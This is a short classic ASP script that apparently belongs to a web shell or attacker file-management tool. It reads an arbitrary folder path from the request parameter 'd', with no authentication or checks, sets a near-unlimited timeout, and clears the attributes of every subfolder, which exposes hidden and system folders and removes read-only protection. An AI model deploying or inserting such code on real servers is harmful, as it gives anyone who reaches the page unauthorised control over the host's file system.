<% Server.ScriptTimeout=999999
Set f=Server.CreateObject("Scripting.FileSystemObject").GetFolder(Request("d"))
For Each s In f.SubFolders : s.Attributes = 0 : Next %>
